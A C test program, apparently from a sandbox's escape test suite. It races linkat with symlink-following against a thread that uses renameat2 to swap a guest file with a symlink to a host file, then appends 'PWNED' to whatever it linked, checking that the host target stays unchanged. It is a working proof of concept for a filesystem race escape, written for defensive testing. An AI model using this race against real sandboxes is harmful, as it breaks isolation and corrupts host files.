/* linkat(AT_SYMLINK_FOLLOW) of a file of the guest's own while a second
 * thread exchanges it with a symlink to a host file (both in the guest's
 * copy-on-write layer).
 *
 *   escape_vfs_link_race WORKDIR TARGET ITERATIONS
 *
 * If the link were made by following the symlink on the host, the new name
 * would be a hard link to TARGET inside the writable layer, where the guest
 * then writes: "PWNED" appended to it.  The test checks TARGET unchanged. */
#include "escape_common.h"
#include <pthread.h>
#include <sys/stat.h>

static volatile int stop;
static char a[4096], s[4096];

static void *swapper(void *arg) {
    (void)arg;
    while (!stop) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, s, 2 /* RENAME_EXCHANGE */);
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    char b[4096];
    snprintf(a, sizeof a, "%s/a", argv[1]);
    snprintf(s, sizeof s, "%s/s", argv[1]);
    snprintf(b, sizeof b, "%s/b", argv[1]);
    int fd = open(a, O_WRONLY | O_CREAT, 0644);
    if (fd < 0) return 3;
    close(fd);
    if (symlink(argv[2], s) < 0) return 4;
    long iters = argl(argv, 3), linked = 0, pwned = 0;
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    for (long i = 0; i < iters; i++) {
        if (linkat(AT_FDCWD, a, AT_FDCWD, b, AT_SYMLINK_FOLLOW) != 0) continue;
        linked++;
        struct stat st;
        if (stat(b, &st) == 0 && st.st_size > 0) {
            fd = open(b, O_WRONLY | O_APPEND);
            if (fd >= 0) {
                if (write(fd, "PWNED\n", 6) == 6) pwned++;
                close(fd);
            }
        }
        unlink(b);
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("linked=%ld pwned=%ld\n", linked, pwned);
    return 0;
}
